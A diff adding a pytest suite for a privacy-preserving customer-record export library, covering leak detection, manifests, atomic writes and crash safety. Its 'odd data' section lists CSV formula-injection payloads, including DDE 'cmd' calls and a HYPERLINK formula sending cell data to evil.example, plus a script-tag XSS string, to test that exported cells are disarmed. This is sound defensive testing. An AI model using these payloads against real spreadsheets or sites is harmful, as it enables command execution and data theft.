@@ -1,0 +1,910 @@
+from __future__ import annotations
+
+import contextlib
+import csv
+import datetime as dt
+import json
+import logging
+import os
+import random
+import signal
+import stat
+import subprocess
+import sys
+import tempfile
+import time
+import traceback
+from collections import Counter
+from collections.abc import Callable, Iterator
+from functools import cache
+from pathlib import Path
+from typing import Any
+
+import duckdb
+import polars as pl
+import pyarrow as pa
+import pyarrow.parquet as pq
+import pytest
+
+import invitekit as ik
+from invitekit import schema, write
+from invitekit.errors import (
+    ArgumentError,
+    InvitekitError,
+    LeakError,
+    OutputError,
+    PolicyError,
+    SchemaError,
+    SourceError,
+)
+from invitekit.export import GATES, counts, find_key, kept_key, new_key, release, rotate_key, sinks, steps, verify
+from invitekit.export.manifest import digest, path_of
+from invitekit.privacy import Key, Level, standard
+from invitekit.write import FORMULA_STARTS
+
+AS_OF = dt.date(2026, 3, 30)
+KEY = Key(bytes(range(32)))
+KINDS = ("parquet", "csv", "xlsx")
+
+
+def people(rows: int = 200, columns: dict | None = None) -> pl.DataFrame:
+    """Records of made-up customers that use every column, so that no action is without work."""
+    made = {
+        "Customer Full Name": [f"Canary Company {n} GmbH" for n in range(rows)],
+        "Customer Name": [f"Ann Canary{n}" for n in range(rows)],
+        "Account Name": [f"canary_{n}" for n in range(rows)],
+        "Email": [f"canary.{n}@canary.example" for n in range(rows)],
+        "Mobile": [f"+49 170 {1000000 + n}" for n in range(rows)],
+        "Country": [("Germany", "Atlantis")[n % 2] for n in range(rows)],
+        "Account Manager": [f"mgr.canary{n % 3}" for n in range(rows)],
+        "Custom Tag": [("spring-sale", f"only-canary-{n}")[n % 2] for n in range(rows)],
+        "Remarks": [f"call Ann Canary{n} back" if n % 3 else None for n in range(rows)],
+        "Invitation Method": ["Email"] * rows,
+        "Association Type": ["Reseller"] * rows,
+        "Status": [("Associated", "Association failed")[n % 2] for n in range(rows)],
+        "Failure Cause": [None if n % 2 == 0 else f"canary.{n}@canary.example is refused" for n in range(rows)],
+        "Invitation Time": [dt.datetime(2026, 3, 2, 9, 30) + dt.timedelta(hours=n % 48) for n in range(rows)],
+        "Expires At": [dt.datetime(2026, 3, 9, 9, 30)] * rows,
+        "Snapshot Time": [dt.datetime(2026, 3, 23, 8, 15)] * rows,
+        "Association Time": [dt.datetime(2026, 3, 5, 11, 45) if n % 2 == 0 else None for n in range(rows)],
+    }
+    return pl.DataFrame(made | (columns or {}))
+
+
+def annotated(frame: pl.DataFrame | None = None) -> pl.DataFrame:
+    return usual() if frame is None else ik.annotate(ik.load(frame).records, as_of=AS_OF).pl()
+
+
+@cache
+def usual() -> pl.DataFrame:
+    return annotated(people())
+
+
+def read(path: Path) -> pl.DataFrame:
+    if path.suffix == ".csv":
+        return pl.read_csv(path, infer_schema=False)
+    return pl.read_excel(path, infer_schema_length=0) if path.suffix == ".xlsx" else pl.read_parquet(path)
+
+
+def left(folder: Path) -> list[str]:
+    return sorted(path.name for path in folder.iterdir())
+
+
+@pytest.mark.parametrize("level", ["masked", "pseudonymised", "aggregated"])
+@pytest.mark.parametrize("kind", KINDS)
+def test_an_export_holds_its_rows_and_nobody(tmp_path: Path, kind: str, level: Level) -> None:
+    done = ik.export(annotated(), tmp_path / f"out.{kind}", level=level)
+    assert left(tmp_path) == [f"out.{kind}", f"out.{kind}.manifest.json"]
+    found = read(done.path)
+    assert found.height == done.rows
+    assert level == "aggregated" or done.rows == 200
+    assert "canary" not in str(found.rows()).lower()
+    assert b"canary" not in done.path.read_bytes().lower() + done.manifest.read_bytes().lower()
+    assert {stat.S_IMODE(path.stat().st_mode) for path in (done.path, done.manifest)} == {0o600}
+    assert verify(done.path).sha256 == done.sha256 == digest(done.path)
+
+
+def test_the_manifest_says_what_was_done_and_passed_and_nothing_of_the_machine(tmp_path: Path) -> None:
+    done = ik.export(annotated(), tmp_path / "out.parquet", key=KEY, purpose="spring report")
+    told = json.loads(done.manifest.read_text())
+    assert (told["level"], told["rows"], told["key_id"], told["purpose"]) == (
+        "pseudonymised",
+        200,
+        KEY.id,
+        "spring report",
+    )
+    assert set(told["gates"]) == set(GATES) - {"formulas", "cells"}
+    assert told["columns"]["email"] == {
+        "from": "email",
+        "action": "pseudonymise",
+        "how": "",
+        "form": "token",
+        "prefix": "e",
+    }
+    assert told["nulls"]["days_to_associate"] == 100
+    assert str(tmp_path) not in done.manifest.read_text()
+    assert KEY.text() not in done.manifest.read_text()
+
+
+@pytest.mark.parametrize("engine", ["polars", "lazy", "duckdb", "pandas", "arrow", "reader"])
+def test_records_of_every_engine_are_exported(tmp_path: Path, engine: str) -> None:
+    frame = annotated()
+    taken: dict[str, Callable[[], Any]] = {
+        "polars": lambda: frame,
+        "lazy": frame.lazy,
+        "duckdb": lambda: duckdb.from_arrow(frame.to_arrow()),
+        "pandas": frame.to_pandas,
+        "arrow": frame.to_arrow,
+        "reader": lambda: frame.to_arrow().to_reader(),
+    }
+    ik.export(frame, tmp_path / "one.parquet", key=KEY)
+    ik.export(taken[engine](), tmp_path / "two.parquet", key=KEY)
+    order = ["account_name", "record_id"]
+    assert read(tmp_path / "two.parquet").sort(order).equals(read(tmp_path / "one.parquet").sort(order))
+
+
+def test_a_filter_chooses_the_records(tmp_path: Path) -> None:
+    done = ik.export(annotated(), tmp_path / "out.parquet", filter=ik.Filter(status="associated"))
+    assert read(done.path)["effective_status"].unique().to_list() == ["associated"]
+    assert done.rows == 100
+
+
+def test_no_records_are_an_export_too(tmp_path: Path) -> None:
+    for kind in KINDS:
+        done = ik.export(annotated().head(0), tmp_path / f"out.{kind}")
+        assert done.rows == 0
+        assert verify(done.path).rows == 0
+
+
+def test_a_planned_record_is_exported_with_its_decision_and_without_its_reasons_words(tmp_path: Path) -> None:
+    plan = ik.plan_resends(annotated(), as_of=AS_OF)
+    found = read(ik.export(plan, tmp_path / "out.parquet").path)
+    assert set(found["decision"]) <= {value.code for value in schema.BY_NAME["decision"].values}
+    assert found["customer_id"].str.contains("^c[0-9a-f]{32}$").all()
+    assert not {"reason", "next_step", "rank", "chance_from"} & set(found.columns)
+
+
+def test_a_record_that_was_never_annotated_leaves_with_its_failures_code(tmp_path: Path) -> None:
+    found = read(ik.export(ik.load(people()).records, tmp_path / "out.parquet").path)
+    assert "failure_message" not in found.columns
+    assert set(found["failure_code"]) == {None, "other"}
+
+
+def test_an_extra_column_stops_the_export_until_a_policy_names_it(tmp_path: Path) -> None:
+    frame = annotated(people(columns={"Deal size": [str(n) for n in range(200)]}))
+    with pytest.raises(PolicyError, match="Deal size"):
+        ik.export(frame, tmp_path / "out.parquet")
+    rules = tmp_path / "policy.toml"
+    rules.write_text('[[column]]\nname = "Deal size"\naction = "keep"\nrange = [0, 100]\ninto = "deal"\n')
+    found = read(ik.export(frame, tmp_path / "out.parquet", policy=rules).path)
+    assert sorted(found["deal"]) == sorted(min(n, 100) for n in range(200))
+    assert verify(tmp_path / "out.parquet").columns["deal"]["least"] == 0
+
+
+# -- the proof of the proof ------------------------------------------------------------------------
+
+HELD = {column.name for column in (*schema.RECORD, *schema.ANNOTATED)}
+WORK = [
+    pytest.param(level, row.into, id=f"{level}-{row.into}")
+    for level in ("masked", "pseudonymised", "aggregated")
+    for row in standard(level).rows
+    if row.action != "drop" and row.column in HELD and row.into != "failure_code"
+]
+HARMLESS = {"who_acts", "resend_rule", "effective_status", "invitation_method", "association_type", "status", "cause"}
+"""Kept words of records that hold nothing else: for these, a word of somebody's is put in first."""
+HARMLESS |= {"advice", "suggested_operation"}
+
+
+def mutated(column: str) -> Callable[..., pl.DataFrame]:
+    """A release in which one column's action is identity."""
+    true = release.release
+
+    def leak(batch: pl.DataFrame, rows: Any, secrets: Any) -> pl.DataFrame:
+        made = true(batch, rows, secrets)
+        source = next((row.column for row in rows if row.into == column), None)
+        return made.with_columns(batch[source].alias(column)) if source else made
+
+    return leak
+
+
+@pytest.mark.parametrize("kind", KINDS)
+@pytest.mark.parametrize(("level", "column"), WORK)
+def test_an_action_that_does_nothing_is_found_out(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, level: Level, column: str, kind: str
+) -> None:
+    frame = annotated()
+    if column in HARMLESS:
+        frame = frame.with_columns(pl.Series(column, ["call Ann Canary"] * 200))
+    if level == "aggregated":
+        frame = frame.with_columns(invited_at=dt.datetime(2026, 3, 2, 9, 30))
+    if column == "days_to_associate":
+        frame = frame.with_columns(days_to_associate=pl.lit(5_000))
+    monkeypatch.setattr(steps, "release", mutated(column))
+    monkeypatch.setattr(counts, "release", mutated(column))
+    with pytest.raises(LeakError) as refused:
+        ik.export(frame, tmp_path / f"out.{kind}", level=level)
+    assert refused.value.column == column
+    assert "anary" not in str(refused.value)
+    assert left(tmp_path) == []
+
+
+@pytest.mark.parametrize("column", ["record_id", "email", "remarks", "source_file", "unrecognised"])
+@pytest.mark.parametrize("kind", KINDS)
+def test_a_column_that_had_to_be_dropped_is_found_out(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str, column: str
+) -> None:
+    true = release.release
+    monkeypatch.setattr(steps, "release", lambda b, r, s: true(b, r, s).with_columns(b["email"].alias(f"{column} raw")))
+    with pytest.raises(LeakError) as refused:
+        ik.export(annotated(), tmp_path / f"out.{kind}")
+    assert (refused.value.column, refused.value.gate) == ("file", "columns")
+    assert left(tmp_path) == []
+
+
+MILLION = 1_000_000
+
+
+@pytest.fixture(scope="module")
+def million() -> Iterator[duckdb.DuckDBPyRelation]:
+    """A million records, small ones."""
+    with duckdb.connect() as con:
+        con.execute("set enable_progress_bar = false")
+        con.execute(
+            f"create table records as select 'k' || md5(i::varchar) as record_id, 'acct_' || i as account_name, "
+            f"'p' || i || '@canary.example' as email, 'Germany' as country, 'expired' as status, "
+            f"timestamp '2026-03-02' + to_hours((i % 500)::int) as invited_at from range({MILLION}) t(i)"
+        ).fetchall()
+        yield con.table("records")
+
+
+SLIPS = {
+    "record_id": "k0cc175b9c0f1b6a831c399e269772661",
+    "account_name": "acct_7",
+    "email": "p7@canary.example",
+    "email_kind": "p7@canary.example",
+    "country": "acct_7",
+    "status": "acct_7",
+    "invited_month": dt.date(2026, 3, 2),
+}
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("column", SLIPS)
+def test_one_raw_value_in_one_row_of_a_million_is_found_out(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, million: duckdb.DuckDBPyRelation, column: str
+) -> None:
+    true = release.release
+    slipped: list[int] = []
+
+    def leak(batch: pl.DataFrame, rows: Any, secrets: Any) -> pl.DataFrame:
+        made = true(batch, rows, secrets)
+        if len(slipped) == 1:
+            cells = made[column].to_list()
+            cells[123] = SLIPS[column]
+            made = made.with_columns(pl.Series(column, cells, dtype=made.schema[column]))
+        slipped.append(1)
+        return made
+
+    monkeypatch.setattr(steps, "release", leak)
+    with pytest.raises(LeakError) as refused:
+        ik.export(million, tmp_path / "out.parquet")
+    assert (refused.value.column, refused.value.gate, refused.value.count) == (column, "declared", 1)
+    assert left(tmp_path) == []
+
+
+def test_a_raw_value_that_looks_like_a_token_is_found_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    once = read(ik.export(annotated(), tmp_path / "once.parquet").path)
+    frame = annotated().with_columns(once["account_name"])
+    ik.export(frame, tmp_path / "twice.parquet")
+    monkeypatch.setattr(steps, "release", mutated("account_name"))
+    with pytest.raises(LeakError) as refused:
+        ik.export(frame, tmp_path / "thrice.parquet")
+    assert (refused.value.column, refused.value.gate) == ("account_name", "values")
+    assert refused.value.count == 200
+
+
+@pytest.mark.parametrize("spoilt", ["rows", "nulls"])
+def test_a_row_or_a_cell_that_is_lost_is_found_out(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, spoilt: str
+) -> None:
+    true = sinks.SINKS[".parquet"]
+
+    def lose(frames: Iterator[pl.DataFrame], part: Path, *, safe: bool) -> None:
+        cut = (f.tail(-1) if spoilt == "rows" else f.with_columns(status=pl.lit(None, pl.String)) for f in frames)
+        true(cut, part, safe=safe)
+
+    monkeypatch.setitem(sinks.SINKS, ".parquet", lose)
+    with pytest.raises(LeakError) as refused:
+        ik.export(annotated(), tmp_path / "out.parquet")
+    assert refused.value.gate == spoilt
+    assert left(tmp_path) == []
+
+
+def test_a_footer_that_says_more_than_it_should_is_found_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    def chatty(frames: Iterator[pl.DataFrame], part: Path, *, safe: bool) -> None:
+        del safe
+        table = pl.concat(frames).to_arrow()
+        pq.write_table(table.replace_schema_metadata({"pandas": "canary"}), part)
+
+    monkeypatch.setitem(sinks.SINKS, ".parquet", chatty)
+    with pytest.raises(LeakError) as refused:
+        ik.export(annotated(), tmp_path / "out.parquet")
+    assert refused.value.gate == "metadata"
+
+
+def test_a_cell_that_was_not_disarmed_is_found_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(sinks, "_disarmed", lambda frame: frame)
+    with pytest.raises(LeakError) as refused:
+        ik.export(annotated().with_columns(custom_tag=pl.lit("=1+1")), tmp_path / "out.csv")
+    assert (refused.value.column, refused.value.gate, refused.value.count) == ("custom_tag", "formulas", 200)
+    assert left(tmp_path) == []
+
+
+@pytest.mark.parametrize(("column", "kind"), [("has_remarks", pl.Int8()), ("invited_month", pl.Datetime("us"))])
+def test_a_column_of_another_type_is_found_out(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, column: str, kind: pl.DataType
+) -> None:
+    true = release.release
+    monkeypatch.setattr(steps, "release", lambda b, r, s: true(b, r, s).with_columns(pl.col(column).cast(kind)))
+    with pytest.raises(LeakError) as refused:
+        ik.export(annotated(), tmp_path / "out.parquet")
+    assert (refused.value.column, refused.value.gate) == (column, "types")
+
+
+def test_a_file_that_no_engine_reads_is_no_export(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    def broken(frames: Iterator[pl.DataFrame], part: Path, *, safe: bool) -> None:
+        del safe
+        part.write_bytes(b"PAR1" + str(list(frames)).encode() + b"PAR1")
+
+    monkeypatch.setitem(sinks.SINKS, ".parquet", broken)
+    with pytest.raises(LeakError, match="readable") as refused:
+        ik.export(annotated(), tmp_path / "out.parquet")
+    assert "canary" not in "".join(traceback.format_exception(refused.value)).lower()
+    assert left(tmp_path) == []
+
+
+# -- odd data --------------------------------------------------------------------------------------
+
+# OWASP, CSV injection, and the ways around a filter that were seen.
+PAYLOADS = (
+    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
+    '=HYPERLINK("http://evil.example?x="&A1,"click")', "=1+1;", '"=1+1"', "'=1+1", " =1+1", "＝1+1", "=1+1\n=2",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("kind", KINDS)
+@pytest.mark.parametrize("level", ["masked", "pseudonymised"])
+def test_no_cell_of_an_export_runs_in_a_spreadsheet(tmp_path: Path, kind: str, level: Level) -> None:
+    rows = len(PAYLOADS) * 12
+    texts = [PAYLOADS[n % len(PAYLOADS)] for n in range(rows)]
+    frame = annotated(people(rows))
+    frame = frame.with_columns(
+        pl.Series(name, texts) for name, kind in frame.schema.items() if kind == pl.String and name != "record_id"
+    )
+    rules = tmp_path / "policy.toml"
+    rules.write_text('[[column]]\nname = "Tier"\naction = "keep"\nvalues = ["=1+1", "-2", "gold"]\ninto = "=tier"\n')
+    frame = frame.with_columns(pl.Series("Tier", (["=1+1", "-2", "gold", None] * rows)[:rows]))
+    # An account of each row's own, so that frequent tags are frequent among customers.
+    frame = frame.with_columns(account_name=pl.Series([f"{text}{n}" for n, text in enumerate(texts)]))
+    secret = ["customer_full_name", "customer_name", "email", "mobile", "account_manager"]
+    frame = frame.with_columns(pl.lit("x").alias(name) for name in secret)
+    done = ik.export(frame, tmp_path / f"out.{kind}", policy=rules, level=level)
+    cells = [cell for row in read(done.path).rows() for cell in row if isinstance(cell, str)]
+    if kind == "csv":
+        with done.path.open(encoding="utf-8-sig", newline="") as file:
+            cells = [cell for row in csv.reader(file) for cell in row]
+        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    assert any("1+1" in cell for cell in cells)
+    assert verify(done.path).rows == rows
+    back = ik.load(done.path).records.pl()
+    assert set(back["=tier" if "=tier" in back.columns else "'=tier"]) == {"=1+1", "-2", "gold", None}
+
+
+def test_machine_csv_has_no_apostrophes_and_no_mark(tmp_path: Path) -> None:
+    frame = annotated().with_columns(custom_tag=pl.lit("=sale"))
+    done = ik.export(frame, tmp_path / "out.csv", spreadsheet_safe=False)
+    assert set(pl.read_csv(done.path)["custom_tag"]) == {"=sale"}
+    assert done.path.read_bytes().startswith(b"record_id,")
+    assert "formulas" not in done.gates
+    assert verify(done.path).spreadsheet_safe is False
+
+
+ODD = (
+    "A",
+    "李",
+    "<script>alert(1)</script>",
+    "\u202eevil\u202c",
+    "عميل",
+    "PENDING",
+    "email",
+    "associated",
+    "other",
+    "***x",
+    "0",
+)
+
+
+@pytest.mark.parametrize("kind", KINDS)
+@pytest.mark.parametrize("odd", ODD)
+def test_a_customer_may_be_called_anything(tmp_path: Path, odd: str, kind: str) -> None:
+    frame = annotated()
+    names = ["customer_full_name", "customer_name", "account_name", "email", "account_manager"]
+    frame = frame.with_columns(pl.when(pl.int_range(200) < 20).then(pl.lit(odd)).otherwise(n).alias(n) for n in names)
+    frame = frame.with_columns(custom_tag=pl.lit(odd), remarks=pl.lit(odd), failure_message=pl.lit(odd))
+    done = ik.export(frame, tmp_path / f"out.{kind}")
+    found = read(done.path)
+    assert found.height == 200
+    assert set(found["custom_tag"]) == {"other"}, "a tag that is somebody's name does not leave"
+    words = {"email": {"email"}, "associated": {"associated"}, "other": {"other"}}.get(odd, set())
+    cells = {str(cell) for row in found.rows() for cell in row}
+    numbers = {"0"} if odd == "0" else set()
+    assert odd not in cells - words - numbers
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_columns_of_few_values_do_not_carry_those_of_other_records(tmp_path: Path, kind: str) -> None:
+    frame = annotated()
+    for name in ("status", "custom_tag", "country", "account_manager", "customer_name"):
+        values = [*frame[name].drop_nulls().unique(), "canary-not-exported"]
+        cast = pl.Enum(values) if name != "custom_tag" else pl.Categorical()
+        frame = frame.with_columns(pl.col(name).cast(cast))
+    for taken in (frame, frame.to_arrow(), duckdb.from_arrow(frame.to_arrow())):
+        done = ik.export(taken, tmp_path / f"out.{kind}", overwrite=True)
+        assert b"canary" not in done.path.read_bytes()
+    if kind == "parquet":
+        assert set(pl.read_parquet_schema(done.path).values()) == {pl.String(), pl.Date(), pl.Boolean(), pl.Int64()}
+        assert not any(pa.types.is_dictionary(field.type) for field in pq.read_schema(done.path))
+        assert pq.read_metadata(done.path).metadata is None
+
+
+def test_zoned_times_leave_as_the_months_of_utc(tmp_path: Path) -> None:
+    at = dt.datetime(2026, 2, 28, 23, 30, tzinfo=dt.timezone(dt.timedelta(hours=-5)))
+    frame = annotated().with_columns(invited_at=pl.lit(at).dt.convert_time_zone("Asia/Shanghai"))
+    for taken in (frame, duckdb.from_arrow(frame.to_arrow())):
+        found = read(ik.export(taken, tmp_path / "out.parquet", overwrite=True).path)
+        assert set(found["invited_month"]) == {dt.date(2026, 3, 1)}
+
+
+# -- counts ----------------------------------------------------------------------------------------
+
+
+def cells(sizes: dict[str, int]) -> pl.DataFrame:
+    """Records of so many customers by status, two a customer."""
+    rows = [(f"c{status}{n // 2}", status) for status, size in sizes.items() for n in range(2 * size)]
+    return pl.DataFrame(rows, schema=["account_name", "effective_status"], orient="row")
+
+
+def test_cells_of_few_customers_are_left_out_however_many_records_they_hold(tmp_path: Path) -> None:
+    frame = cells({"associated": 30, "expired": 10, "invited": 9, "pre_registered": 9})
+    found = read(ik.export(frame, tmp_path / "out.parquet", level="aggregated").path)
+    assert {row[0]: row[1:] for row in found.rows()} == {"associated": (60, 30), "expired": (20, 10)}
+
+
+def test_one_small_cell_cannot_be_told_from_the_rest(tmp_path: Path) -> None:
+    frame = cells({"associated": 30, "expired": 10, "invited": 1})
+    found = read(ik.export(frame, tmp_path / "out.parquet", level="aggregated").path)
+    assert found["effective_status"].to_list() == ["associated"]
+
+
+def test_counts_of_too_few_are_refused(tmp_path: Path) -> None:
+    with pytest.raises(OutputError, match="10 customers"):
+        ik.export(cells({"associated": 9, "expired": 9}), tmp_path / "out.csv", level="aggregated")
+    with pytest.raises(OutputError, match="10 customers"):
+        ik.export(pl.DataFrame({"effective_status": ["expired"] * 50}), tmp_path / "out.csv", level="aggregated")
+    assert left(tmp_path) == []
+
+
+# -- joins and reading back ------------------------------------------------------------------------
+
+
+def test_two_exports_with_one_key_join_as_the_raw_records_do(tmp_path: Path) -> None:
+    old, new = annotated(people(150)), annotated(people(200))[40:]
+    for name, frame in (("old", old), ("new", new)):
+        ik.export(frame, tmp_path / f"{name}.parquet", key=KEY)
+    tokens = [read(tmp_path / f"{name}.parquet") for name in ("old", "new")]
+    for column in ("account_name", "email", "mobile", "customer_full_name", "account_manager"):
+        raw = old.join(new, on=column).height
+        assert raw > 0
+        assert tokens[0].join(tokens[1], on=column).height == raw
+        assert tokens[0][column].n_unique() == old[column].n_unique()
+    ik.export(new, tmp_path / "thrown.parquet")
+    assert tokens[0].join(read(tmp_path / "thrown.parquet"), on="account_name").height == 0
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_our_own_exports_are_read_back(tmp_path: Path, kind: str) -> None:
+    frame = annotated()
+    loaded = ik.load(ik.export(frame, tmp_path / f"tokens.{kind}").path)
+    assert (loaded.summary.records, loaded.summary.rejects) == (200, 0)
+    assert sum(column.masked for column in loaded.summary.masked.values()) == 0
+    back = loaded.records.pl()
+    assert Counter(back["status"]) == Counter(frame["status"])
+    assert back["account_name"].n_unique() == 200
+    masked = ik.load(ik.export(frame, tmp_path / f"masked.{kind}", level="masked").path)
+    assert (masked.summary.records, masked.summary.rejects) == (200, 0)
+    assert masked.records.pl()["invited_at"].dt.date().to_list() == frame["invited_at"].dt.date().to_list()
+    assert masked.records.pl()["record_id"].n_unique() == 200
+
+
+def test_values_that_came_masked_are_emptied_and_counted(tmp_path: Path) -> None:
+    frame = annotated(people(columns={"Customer Name": ["T***m"] * 200}))
+    done = ik.export(frame, tmp_path / "out.parquet")
+    assert done.emptied == {"customer_name": 200}
+    assert read(done.path)["customer_name"].null_count() == 200
+
+
+# -- a place to write ------------------------------------------------------------------------------
+
+
+def test_nothing_is_written_over_unless_it_is_said_and_never_a_source(tmp_path: Path) -> None:
+    source = tmp_path / "source.csv"
+    people().write_csv(source)
+    before = source.read_bytes()
+    with pytest.raises(OutputError, match="exists already"):
+        ik.export(annotated(), source)
+    with pytest.raises(OutputError, match="source of this very run"):
+        ik.export(annotated(), source, overwrite=True, sources=[source])
+    page = path_of(tmp_path / "out.csv")
+    page.write_text("mine")
+    with pytest.raises(OutputError, match=r"out\.csv\.manifest\.json"):
+        ik.export(annotated(), tmp_path / "out.csv")
+    assert (source.read_bytes(), page.read_text()) == (before, "mine")
+    ik.export(annotated(), tmp_path / "out.csv", overwrite=True)
+    assert verify(tmp_path / "out.csv").rows == 200
+
+
+def test_a_refused_export_leaves_the_earlier_one_as_it_was(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    first = ik.export(annotated(), tmp_path / "out.csv")
+    monkeypatch.setattr(steps, "release", mutated("email"))
+    with pytest.raises(LeakError):
+        ik.export(annotated(), tmp_path / "out.csv", overwrite=True)
+    assert verify(tmp_path / "out.csv").sha256 == first.sha256
+    assert left(tmp_path) == ["out.csv", "out.csv.manifest.json"]
+
+
+@pytest.mark.parametrize("how", ["cut", "changed", "no manifest", "another manifest", "a forged manifest"])
+def test_a_file_that_is_not_the_proved_one_is_refused(tmp_path: Path, how: str) -> None:
+    done = ik.export(annotated(), tmp_path / "out.csv")
+    text = done.path.read_text("utf-8")
+    told = json.loads(done.manifest.read_text())
+    if how == "cut":
+        done.path.write_text(text[: len(text) // 2], "utf-8")
+    elif how == "changed":
+        done.path.write_text(text.replace("other", "Atlantis", 1), "utf-8")
+    elif how == "no manifest":
+        done.manifest.unlink()
+    elif how == "another manifest":
+        done.manifest.write_text("{}")
+    else:
+        done.path.write_text(text.replace("other", "Atlantis", 1), "utf-8")
+        done.manifest.write_text(json.dumps(told | {"sha256": digest(done.path)}))
+    with pytest.raises((LeakError, SourceError)) as refused:
+        verify(done.path)
+    assert "Atlantis" not in str(refused.value)
+
+
+def test_what_a_killed_export_left_is_swept_and_what_a_living_one_works_in_is_not(tmp_path: Path) -> None:
+    with subprocess.Popen([sys.executable, "-c", ""]) as ended:
+        ended.wait()
+    for name, owner in (("dead", ended.pid), ("alive", os.getppid())):
+        (tmp_path / f".out.csv.{name}.part").mkdir()
+        (tmp_path / f".out.csv.{name}.part" / "owner").write_text(str(owner))
+    ik.export(annotated(), tmp_path / "out.csv")
+    assert left(tmp_path) == [".out.csv.alive.part", "out.csv", "out.csv.manifest.json"]
+
+
+def test_no_manifest_of_an_earlier_file_stands_beside_a_new_one(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    target = tmp_path / "out.csv"
+    ik.export(annotated(), target)
+    true = write.publish
+
+    def stop(part: Path, to: Path, *, overwrite: bool) -> None:
+        if to != target:
+            raise KeyboardInterrupt
+        true(part, to, overwrite=overwrite)
+
+    monkeypatch.setattr(steps, "publish", stop)
+    with pytest.raises(KeyboardInterrupt):
+        ik.export(annotated(), target, overwrite=True)
+    assert left(tmp_path) == ["out.csv"]
+    with pytest.raises(SourceError, match="did not come to its end"):
+        verify(target)
+
+
+def test_stopping_leaves_nothing_behind(tmp_path: Path) -> None:
+    def stop(_name: str, done: int, _total: int) -> None:
+        if done:
+            raise KeyboardInterrupt
+
+    for kind in KINDS:
+        with pytest.raises(KeyboardInterrupt):
+            ik.export(annotated(), tmp_path / f"out.{kind}", progress=stop)
+    assert left(tmp_path) == []
+
+
+def test_progress_counts_rows_up_to_all_of_them(tmp_path: Path) -> None:
+    told: list[tuple[str, int, int]] = []
+    ik.export(annotated(), tmp_path / "out.parquet", progress=lambda *now: told.append(now))
+    assert told[0] == ("writing", 0, 200)
+    assert told[-2:] == [("writing", 200, 200), ("proving", 200, 200)]
+
+
+def test_a_folder_that_cannot_be_written_is_refused() -> None:
+    frame = annotated()
+    with tempfile.TemporaryDirectory() as folder:
+        Path(folder).chmod(0o555)
+        # Root writes everywhere: it has to be somebody else for a moment.
+        before, other = os.geteuid(), os.geteuid() or 65534
+        os.seteuid(other)
+        try:
+            with pytest.raises(OutputError, match="cannot be written"):
+                ik.export(frame, Path(folder) / "out.csv", key=KEY)
+        finally:
+            os.seteuid(before)
+        assert left(Path(folder)) == []
+
+
+def test_a_folder_that_refuses_a_new_file_is_told_in_our_words() -> None:
+    gone = Path("/proc/self/out.csv")  # no file can be made there, not even by root
+    with pytest.raises(OutputError, match=r"'out.csv' cannot be written|cannot be written to"):
+        ik.export(annotated(), gone)
+
+
+FULL = """
+import resource, signal, sys
+import polars as pl
+from invitekit.export import export
+from invitekit.errors import OutputError
+signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+frame = pl.read_parquet(sys.argv[1])
+resource.setrlimit(resource.RLIMIT_FSIZE, (int(sys.argv[3]), int(sys.argv[3])))
+try:
+    export(frame, sys.argv[2])
+except OutputError as error:
+    print(error)
+"""
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_a_full_disk_leaves_nothing_behind(tmp_path: Path, kind: str) -> None:
+    annotated().write_parquet(tmp_path / "in.parquet")
+    command = [sys.executable, "-c", FULL, str(tmp_path / "in.parquet"), str(tmp_path / f"out.{kind}"), "2000"]
+    done = subprocess.run(command, capture_output=True, text=True, check=False, timeout=120)
+    assert "cannot be written" in done.stdout, done.stderr
+    assert "canary" not in (done.stdout + done.stderr).lower()
+    assert left(tmp_path) == ["in.parquet"]
+
+
+ZYGOTE = """
+import os, sys
+import polars as pl
+from invitekit.export import export
+for line in sys.stdin:
+    if not (pid := os.fork()):
+        export(pl.read_parquet(sys.argv[1]), sys.argv[2], overwrite=True)
+        os._exit(0)
+    print(pid, flush=True)
+    print(os.waitpid(pid, 0)[1], flush=True)
+"""
+"""Has everything imported and no thread yet: a copy of it is at work at once."""
+
+
+def state(target: Path) -> str:
+    """What a killed export left under its name; a file without a manifest is whole all the same."""
+    if not target.exists():
+        return "none" if not path_of(target).exists() else "torn"
+    if pl.read_parquet(target).height != 20_000:
+        return "torn"
+    try:
+        verify(target)
+    except SourceError:
+        return "without manifest"
+    return "whole"
+
+
+@pytest.mark.slow
+def test_a_kill_at_any_moment_leaves_a_whole_export_or_none(tmp_path: Path) -> None:
+    source, target, dice = tmp_path / "in.parquet", tmp_path / "out" / "out.parquet", random.Random(7)
+    annotated(people(20_000)).write_parquet(source)
+    target.parent.mkdir()
+    command = [sys.executable, "-c", ZYGOTE, str(source), str(target)]
+    found, killed = Counter[str](), 0
+    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as zygote:
+        assert zygote.stdin
+        assert zygote.stdout
+        length = 0.0
+        for number in range(101):
+            zygote.stdin.write("go\n")
+            zygote.stdin.flush()
+            pid, began = int(zygote.stdout.readline()), time.perf_counter()
+            if number:
+                time.sleep(dice.uniform(0, 1.1 * length))
+                with contextlib.suppress(ProcessLookupError):  # it was quicker
+                    os.kill(pid, signal.SIGKILL)
+            killed += int(zygote.stdout.readline()) == signal.SIGKILL
+            length = length or time.perf_counter() - began
+            found[state(target)] += 1
+            if number % 2:
+                target.unlink(missing_ok=True)
+                path_of(target).unlink(missing_ok=True)
+        zygote.stdin.close()
+    assert killed > 50
+    assert found["torn"] == 0, found
